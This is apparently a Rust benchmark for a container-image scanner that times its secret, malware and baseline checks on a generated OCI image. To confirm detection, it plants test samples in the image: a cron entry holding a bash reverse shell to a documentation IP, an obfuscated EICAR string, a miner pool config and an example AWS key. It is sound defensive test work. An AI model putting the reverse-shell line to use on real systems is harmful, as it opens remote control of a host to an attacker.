//! The extra time the check classes (baseline, secret, malware) add to a scan of a
//! ~500 MB image, against a vulnerability-only (inventory) scan of the same image.
//!
//! `cargo bench -p imagewarden-scanner --bench checks` (IW_BENCH_SCALE, default 1.0,
//! scales every file count; IW_BENCH_RUNS, default 3, rounds over the configurations, the
//! fastest run of each counts).
//!
//! The image is an OCI layout with three gzip layers: a base OS layer (os-release, dpkg
//! status, thousands of small docs and configs, ELF executables and shared libraries), an
//! application layer (JavaScript and Python sources, JSON configs, shell scripts, a few
//! large executables, one over the malware size cap) and a data layer (incompressible
//! blobs over the cap, a large compressible log, archives). A handful of planted samples
//! (EICAR, an xmrig config, a reverse shell, an AWS key) check that the checks ran.

use flate2::write::GzEncoder;
use sha2::{Digest, Sha256};
use std::io::Read;
use std::path::Path;
use std::time::Instant;

use imagewarden_scanner::analyzer::{default_analyzers, Analyzer};
use imagewarden_scanner::checks::{self, CheckOptions};
use imagewarden_scanner::finding::ScannerKind;
use imagewarden_scanner::source::{read_local, ImageRef};

fn env_f64(name: &str, default: f64) -> f64 {
    std::env::var(name)
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(default)
}

fn status_kib(key: &str) -> u64 {
    std::fs::read_to_string("/proc/self/status")
        .ok()
        .and_then(|s| {
            s.lines()
                .find(|l| l.starts_with(key))
                .and_then(|l| l.split_whitespace().nth(1))
                .and_then(|v| v.parse().ok())
        })
        .unwrap_or(0)
}

/// Resets the peak RSS (VmHWM) of this process, so that each configuration's peak is its own.
fn reset_peak_rss() {
    let _ = std::fs::write("/proc/self/clear_refs", "5");
}

struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n.max(1)
    }
    fn bytes(&mut self, len: usize) -> Vec<u8> {
        let mut v = Vec::with_capacity(len + 8);
        while v.len() < len {
            v.extend_from_slice(&self.next().to_le_bytes());
        }
        v.truncate(len);
        v
    }
}

/// Source-like text that compresses about as well as real files do.
fn text(rng: &mut Rng, len: usize) -> Vec<u8> {
    const WORDS: &[&str] = &[
        "const", "return", "function", "import", "module", "export", "default", "if", "else",
        "for", "while", "self", "this", "value", "config", "options", "request", "response",
        "error", "result", "=", "==", "(", ")", "{", "}", ";", ":", "0x7f3a", "\"name\"",
        "'utf-8'", "true", "false", "null", "None", "def", "class", "print", "log", "path",
    ];
    let mut out = Vec::with_capacity(len + 16);
    while out.len() < len {
        let x = rng.next();
        out.extend_from_slice(WORDS[(x % WORDS.len() as u64) as usize].as_bytes());
        out.push(if x & 0x700 == 0 { b'\n' } else { b' ' });
    }
    out.truncate(len);
    out
}

/// An ELF-like executable: the magic, then runs of machine-code-like random bytes and
/// string tables (about half compressible).
fn elf(rng: &mut Rng, len: usize) -> Vec<u8> {
    let mut v = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0".to_vec();
    while v.len() < len {
        let chunk = 4096 + rng.below(60_000) as usize;
        if rng.next() & 1 == 0 {
            v.extend_from_slice(&rng.bytes(chunk));
        } else {
            for _ in 0..chunk / 24 {
                v.extend_from_slice(b"GLIBC_2.2.5\0socket\0connect\0");
                v.extend_from_slice(format!("fn_{:x}\0", rng.next()).as_bytes());
            }
        }
    }
    v.truncate(len);
    v
}

struct Layer {
    tar: tar::Builder<GzEncoder<std::fs::File>>,
    bytes: u64,
    files: u64,
}

impl Layer {
    fn new(path: &Path) -> Layer {
        let file = std::fs::File::create(path).unwrap();
        Layer {
            tar: tar::Builder::new(GzEncoder::new(file, flate2::Compression::fast())),
            bytes: 0,
            files: 0,
        }
    }
    fn add(&mut self, path: &str, data: &[u8], mode: u32) {
        let mut h = tar::Header::new_gnu();
        h.set_size(data.len() as u64);
        h.set_mode(mode);
        h.set_entry_type(tar::EntryType::Regular);
        self.tar.append_data(&mut h, path, data).unwrap();
        self.bytes += data.len() as u64;
        self.files += 1;
    }
    fn finish(self) -> (u64, u64) {
        self.tar.into_inner().unwrap().finish().unwrap();
        (self.bytes, self.files)
    }
}

fn n(count: u64, scale: f64) -> u64 {
    ((count as f64 * scale).round() as u64).max(1)
}

/// The EICAR test string, assembled at run time so that no source file holds it whole.
fn eicar() -> Vec<u8> {
    // Kept with every byte XORed with 0x20 and decoded at run time: an optimizing compiler
    // would otherwise lay two halves side by side, and the binary would hold the string.
    let key = std::hint::black_box(0x20u8);
    b"x\x15o\x01p\x05`ap{\x14|pzx\x15\x14\x08p~\x09\x17cc\x09\x17]\x04eicar\x0dstandard\x0dantivirus\x0dtest\x0dfile\x01\x04h\x0bh\x0a"
        .iter()
        .map(|b| b ^ key)
        .collect()
}

fn base_layer(path: &Path, scale: f64, rng: &mut Rng) -> (u64, u64) {
    let mut l = Layer::new(path);
    l.add("etc/os-release", b"ID=debian\nVERSION_ID=\"12\"\n", 0o644);
    let mut status = String::new();
    for p in 0..600 {
        status.push_str(&format!(
            "Package: pkg{p}\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1.{p}-1\n\n"
        ));
    }
    l.add("var/lib/dpkg/status", status.as_bytes(), 0o644);
    for i in 0..n(8000, scale) {
        let len = 512 + rng.below(12_000) as usize;
        l.add(
            &format!("usr/share/doc/pkg{}/file{i}.txt", i % 600),
            &text(rng, len),
            0o644,
        );
    }
    for i in 0..n(1500, scale) {
        let len = 256 + rng.below(4000) as usize;
        l.add(&format!("etc/conf.d/svc{i}.conf"), &text(rng, len), 0o644);
    }
    for i in 0..n(150, scale) {
        let len = 20_000 + rng.below(800_000) as usize;
        l.add(&format!("usr/bin/tool{i}"), &elf(rng, len), 0o755);
    }
    for i in 0..n(40, scale) {
        let len = 200_000 + rng.below(1_800_000) as usize;
        l.add(
            &format!("usr/lib/x86_64-linux-gnu/lib{i}.so.1"),
            &elf(rng, len),
            0o644,
        );
    }
    l.finish()
}

fn app_layer(path: &Path, scale: f64, rng: &mut Rng) -> (u64, u64) {
    let mut l = Layer::new(path);
    for p in 0..n(400, scale) {
        let pj = format!(r#"{{"name":"mod{p}","version":"1.0.{p}","main":"index.js"}}"#);
        l.add(
            &format!("app/node_modules/mod{p}/package.json"),
            pj.as_bytes(),
            0o644,
        );
    }
    for i in 0..n(12_000, scale) {
        let len = 300 + rng.below(8000) as usize;
        l.add(
            &format!("app/node_modules/mod{}/lib/f{i}.js", i % 400),
            &text(rng, len),
            0o644,
        );
    }
    for i in 0..n(4000, scale) {
        let len = 300 + rng.below(12_000) as usize;
        l.add(
            &format!("usr/lib/python3/dist-packages/pkg{}/m{i}.py", i % 200),
            &text(rng, len),
            0o644,
        );
    }
    for i in 0..n(2000, scale) {
        let len = 100 + rng.below(4000) as usize;
        l.add(&format!("app/config/c{i}.json"), &text(rng, len), 0o644);
    }
    for i in 0..n(300, scale) {
        let mut s = b"#!/bin/sh\nset -e\n".to_vec();
        let len = 200 + rng.below(4000) as usize;
        s.extend_from_slice(&text(rng, len));
        l.add(&format!("usr/local/bin/run{i}.sh"), &s, 0o755);
    }
    for i in 0..n(3, scale) {
        l.add(
            &format!("opt/app/bin/server{i}"),
            &elf(rng, 16 << 20),
            0o755,
        );
    }
    l.add("opt/app/bin/node", &elf(rng, 40 << 20), 0o755);
    // Planted samples: one finding each.
    l.add("home/app/eicar.com", &eicar(), 0o644);
    l.add(
        "opt/miner/config.json",
        br#"{"donate-level": 1, "pools": [{"url": "stratum+tcp://pool.example.net:3333"}]}"#,
        0o644,
    );
    l.add(
        "etc/cron.d/backup",
        b"* * * * * root bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n",
        0o644,
    );
    l.add(
        "app/settings.py",
        b"AWS_ACCESS_KEY_ID = \"AKIAIOSFODNN7EXAMPLE\"\n",
        0o644,
    );
    l.finish()
}

fn data_layer(path: &Path, scale: f64, rng: &mut Rng) -> (u64, u64) {
    let mut l = Layer::new(path);
    for i in 0..n(2, scale) {
        l.add(
            &format!("var/lib/data/blob{i}.bin"),
            &rng.bytes(50 << 20),
            0o644,
        );
    }
    l.add("var/log/app.log", &text(rng, 30 << 20), 0o644);
    let mut tgz = b"\x1f\x8b\x08\0".to_vec();
    tgz.extend_from_slice(&rng.bytes(20 << 20));
    l.add("var/backups/site.tar.gz", &tgz, 0o644);
    for i in 0..n(4, scale) {
        let mut jar = b"PK\x03\x04".to_vec();
        jar.extend_from_slice(&rng.bytes(10 << 20));
        l.add(&format!("opt/app/lib/dep{i}.jar"), &jar, 0o644);
    }
    l.finish()
}

fn hash_into_blobs(dir: &Path, tmp: &Path) -> (String, u64) {
    let mut h = Sha256::new();
    let mut f = std::fs::File::open(tmp).unwrap();
    let mut buf = vec![0; 1 << 20];
    loop {
        let n = f.read(&mut buf).unwrap();
        if n == 0 {
            break;
        }
        h.update(&buf[..n]);
    }
    let hex = hex::encode(h.finalize());
    let size = std::fs::metadata(tmp).unwrap().len();
    std::fs::rename(tmp, dir.join("blobs/sha256").join(&hex)).unwrap();
    (format!("sha256:{hex}"), size)
}

fn write_json(dir: &Path, v: &serde_json::Value) -> (String, usize) {
    let data = serde_json::to_vec(v).unwrap();
    let hex = hex::encode(Sha256::digest(&data));
    std::fs::write(dir.join("blobs/sha256").join(&hex), &data).unwrap();
    (format!("sha256:{hex}"), data.len())
}

/// Writes one layer's tar.gz and returns (uncompressed bytes, files).
type LayerBuilder = fn(&Path, f64, &mut Rng) -> (u64, u64);

/// Writes the OCI layout and returns (uncompressed bytes, files, compressed bytes).
fn build_image(dir: &Path, scale: f64) -> (u64, u64, u64) {
    std::fs::create_dir_all(dir.join("blobs/sha256")).unwrap();
    let mut rng = Rng(0x9e37_79b9_7f4a_7c15);
    let builders: [LayerBuilder; 3] = [base_layer, app_layer, data_layer];
    let mut descs = Vec::new();
    let (mut bytes, mut files) = (0, 0);
    for (i, build) in builders.iter().enumerate() {
        let tmp = dir.join(format!("layer{i}.tmp"));
        let (b, f) = build(&tmp, scale, &mut rng);
        bytes += b;
        files += f;
        descs.push(hash_into_blobs(dir, &tmp));
    }
    let compressed = descs.iter().map(|d| d.1).sum();
    let (cd, cs) = write_json(
        dir,
        &serde_json::json!({"architecture": "amd64", "os": "linux", "config": {"User": "1000"},
            "rootfs": {"type": "layers", "diff_ids": []}}),
    );
    let layers: Vec<serde_json::Value> = descs
        .iter()
        .map(|(d, s)| serde_json::json!({"mediaType": "application/vnd.oci.image.layer.v1.tar+gzip", "digest": d, "size": s}))
        .collect();
    let (md, ms) = write_json(
        dir,
        &serde_json::json!({"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json",
            "config": {"mediaType": "application/vnd.oci.image.config.v1+json", "digest": cd, "size": cs},
            "layers": layers}),
    );
    std::fs::write(
        dir.join("index.json"),
        serde_json::to_vec(&serde_json::json!({"schemaVersion": 2, "manifests": [
            {"mediaType": "application/vnd.oci.image.manifest.v1+json", "digest": md, "size": ms}]}))
        .unwrap(),
    )
    .unwrap();
    (bytes, files, compressed)
}

struct Run {
    name: &'static str,
    seconds: f64,
    peak_rss_kib: u64,
    findings: usize,
}

/// One scan of the image with the checks of `scanners`: (seconds, peak RSS KiB, findings).
fn scan_once(target: &ImageRef, scanners: &[ScannerKind]) -> (f64, u64, usize) {
    let opts = CheckOptions::for_scanners(scanners);
    reset_peak_rss();
    let mut analyzers: Vec<Box<dyn Analyzer>> = default_analyzers();
    analyzers.extend(checks::file_analyzers(&opts));
    let t = Instant::now();
    let image = read_local(target, &Default::default(), &analyzers).unwrap();
    let found = checks::run(&image, &opts);
    let secs = t.elapsed().as_secs_f64();
    assert!(image.inventory.packages.len() >= 600);
    let findings =
        found.baseline.findings.len() + found.secrets.findings.len() + found.malware.findings.len();
    (secs, status_kib("VmHWM:"), findings)
}

fn main() {
    let scale = env_f64("IW_BENCH_SCALE", 1.0);
    let runs = env_f64("IW_BENCH_RUNS", 3.0).max(1.0) as u32;
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path();
    let t = Instant::now();
    let (bytes, files, compressed) = build_image(dir, scale);
    let mib = |b: u64| b as f64 / (1 << 20) as f64;
    println!(
        "image: 3 layers, {files} files, {:.0} MiB uncompressed, {:.0} MiB gzip (generated in {:.1}s)",
        mib(bytes),
        mib(compressed),
        t.elapsed().as_secs_f64()
    );

    // The bundled YARA rules are compiled once per process, on first use.
    let t = Instant::now();
    let rules = checks::malware::RuleSet::bundled();
    println!(
        "YARA rules compiled once: {} rules in {:.3}s",
        rules.len(),
        t.elapsed().as_secs_f64()
    );

    let target = ImageRef::parse(&format!("oci-layout:{}", dir.display())).unwrap();
    use ScannerKind::*;
    let configs: [(&'static str, &[ScannerKind]); 5] = [
        ("vuln only", &[Vulnerability]),
        ("+ baseline", &[Vulnerability, Baseline]),
        ("+ secret", &[Vulnerability, Secret]),
        ("+ malware", &[Vulnerability, Malware]),
        ("all", &[Vulnerability, Baseline, Secret, Malware]),
    ];
    // Rounds over all configurations, so that a slow spell of a shared machine hits them
    // alike; the fastest run of each counts.
    let mut results: Vec<Run> = configs
        .iter()
        .map(|(name, _)| Run {
            name,
            seconds: f64::MAX,
            peak_rss_kib: 0,
            findings: 0,
        })
        .collect();
    for _ in 0..runs {
        for ((_, scanners), r) in configs.iter().zip(&mut results) {
            let (secs, rss, findings) = scan_once(&target, scanners);
            r.seconds = r.seconds.min(secs);
            r.peak_rss_kib = r.peak_rss_kib.max(rss);
            r.findings = findings;
        }
    }
    let base = results[0].seconds;
    println!("best of {runs} run(s) each; ratio to the vuln-only scan:");
    println!(
        "{:<12} {:>9} {:>7} {:>10} {:>14} {:>9}",
        "scan", "seconds", "ratio", "extra s", "peak RSS MiB", "findings"
    );
    for r in &results {
        println!(
            "{:<12} {:>9.2} {:>6.2}x {:>10.2} {:>14.0} {:>9}",
            r.name,
            r.seconds,
            r.seconds / base,
            r.seconds - base,
            r.peak_rss_kib as f64 / 1024.0,
            r.findings
        );
    }
    println!(
        "throughput, all checks: {:.0} MiB/s uncompressed",
        mib(bytes) / results[4].seconds
    );
}
